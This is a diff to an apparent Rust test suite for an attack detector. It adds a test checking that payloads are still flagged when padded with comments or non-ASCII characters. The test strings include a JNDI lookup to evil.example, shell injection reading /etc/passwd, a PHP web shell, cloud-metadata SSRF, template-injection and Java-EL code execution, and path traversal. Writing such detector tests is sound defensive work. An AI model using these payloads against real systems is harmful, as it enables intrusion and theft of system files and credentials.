@@ -64,6 +64,25 @@ fn what_a_text_quotes_or_mentions_counts_one_point() {
 }
 
 #[test]
+fn words_behind_a_comment_and_broken_characters_excuse_nothing() {
+    let value = Context::of(Place::Value);
+    for (detector, attack) in [
+        (Detector::Jndi, "${jndi:ldap://evil.example/a} #一二三四五六七八九十一二三"),
+        (Detector::Jndi, "患者主诉头痛三天，请问能否改约 ${jndi:ldap://evil.example/a}"),
+        (Detector::Shell, "127.0.0.1;cat /etc/passwd #一二三四五六七八九十一二三"),
+        (Detector::Php, "<?php system($_GET['c']);?> #一二三四五六七八九十一二三"),
+        (Detector::Ssrf, "http://169.254.169.254/latest/meta-data/#一二三四五六七八九十一二三"),
+        (Detector::Ssti, "中文中文中文中文<code>{{''.__class__.__mro__[1].__subclasses__()}}</code>"),
+        (Detector::Shell, "| cat /etc/passwd # | | |"),
+        (Detector::Java, "中文中文中文<code>${T(java.lang.Runtime).getRuntime().exec('id')}</code>"),
+    ] {
+        assert!(confidence(detector, attack.as_bytes(), value) >= SURE, "{attack}");
+    }
+    let broken = [b"../../../../etc/passwd\0".as_slice(), &[0xe4; 12]].concat();
+    assert!(confidence(Detector::Traversal, &broken, value) >= SURE);
+}
+
+#[test]
 fn names_are_found_without_regard_to_case() {
     for detector in Detector::ALL {
         assert_eq!(Detector::from_name(&detector.name().to_uppercase()), Some(*detector));
